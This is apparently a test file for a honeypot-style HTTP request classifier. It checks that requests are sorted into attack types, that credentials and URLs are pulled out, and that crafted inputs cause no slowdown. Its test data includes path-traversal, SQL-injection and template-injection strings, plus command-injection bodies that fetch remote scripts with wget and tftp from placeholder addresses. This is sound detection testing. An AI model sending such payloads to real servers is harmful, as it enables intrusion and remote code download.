// Reading requests as an analyst would: shapes, credentials, URLs; and that no request can make it slow.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { decodeTwice, findCredentials, findUrls, matchRules } from './classify.ts';
import { pageFor } from './pages.ts';
import { requestRules } from './rules.ts';

const request = (url: string, body = '', headers: Record<string, string> = {}) => ({
  url,
  body,
  headers: { host: '192.0.2.80', ...headers },
});
const rules = (...of: Parameters<typeof request>) => matchRules(request(...of)).map(rule => rule.id);

describe('shapes', () => {
  test.each([
    ['/%252e%252e/%252e%252e/etc/passwd', '', 'path-traversal'],
    ['/?q=1%27%20or%20%271%27=%271', '', 'sql-injection'],
    ['/vendor/phpunit/src/Util/PHP/eval-stdin.php', '', 'php-unit-eval'],
    ['/HNAP1/', '', 'device-interface'],
    ['/.env', '', 'secret-file'],
    ['/wp-login.php', '', 'admin-panel'],
    ['/cgi', 'a=;wget+http://198.51.100.9/x', 'command-injection'],
    ['/', '{{config}}', 'template-injection'],
  ])('%s %s is %s', (url, body, id) => expect(rules(url, body)).toContain(id));

  test.each([
    '/',
    '/index.html?lang=ja',
    '/search?q=select+a+shirt',
    '/static/app.js',
    '/blog/2024/etc/notes',
  ])('an ordinary request is not an attempt: %s', url => expect(rules(url)).toEqual([]));

  test('exploit shapes come before looking around', () => {
    expect(matchRules(request('/.env?x=../../etc/passwd'))[0]).toMatchObject({ rsit: 'exploit' });
  });

  test('every rule has an id of its own', () => {
    expect(new Set(requestRules.map(rule => rule.id)).size).toBe(requestRules.length);
  });
});

test('credentials from Basic, forms and JSON', () => {
  const basic = `Basic ${Buffer.from('bob:a:b').toString('base64')}`;
  expect(findCredentials(request('/', '', { authorization: basic }))).toEqual({
    user: 'bob',
    password: 'a:b',
    how: 'basic',
  });
  expect(
    findCredentials(request('/', 'log=x&pwd=%26', { 'content-type': 'application/x-www-form-urlencoded' })),
  ).toEqual({
    user: 'x',
    password: '&',
    how: 'form',
  });
  expect(
    findCredentials(request('/', '{"username":"u","password":"p"}', { 'content-type': 'application/json' })),
  ).toEqual({
    user: 'u',
    password: 'p',
    how: 'json',
  });
  expect(findCredentials(request('/', 'q=1'))).toBeUndefined();
});

test('URLs wanted, but not our own nor the page it came from', () => {
  expect(
    findUrls(
      request(
        '/x?u=http%3A%2F%2F198.51.100.9%2Fa',
        'wget -q 198.51.100.8/b.sh; tftp -g -r m 198.51.100.7; http://192.0.2.80/own',
        {
          referer: 'http://elsewhere.example/',
        },
      ),
    ).sort(),
  ).toEqual(['http://198.51.100.8/b.sh', 'http://198.51.100.9/a', 'tftp://198.51.100.7/m']);
});

test('any request: no throw, no delay, bounded results, a page', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 400 }),
    fc
      .tuple(
        fc.constantFrom(
          '../',
          '${',
          '{{',
          '%25',
          "' or ",
          'wget -a ',
          'tftp -r a ',
          '() {',
          'http://',
          'union ',
          '${${',
        ),
        fc.nat({ max: 6_000 }),
      )
      .map(([part, times]) => part.repeat(times).slice(0, 16_384)),
  );
  fc.assert(
    fc.property(text, text, text, (url, body, header) => {
      const facts = request(url, body, {
        'user-agent': header,
        authorization: header,
        'content-type': header,
      });
      const began = performance.now();
      matchRules(facts);
      findCredentials(facts);
      expect(findUrls(facts).length).toBeLessThanOrEqual(8);
      expect(decodeTwice(url).length).toBeLessThanOrEqual(16_384);
      expect(pageFor('GET', url, { title: 't', realm: 'r' }).body.length).toBeLessThan(2_000);
      expect(performance.now() - began).toBeLessThan(500);
    }),
    { numRuns: 300 },
  );
});
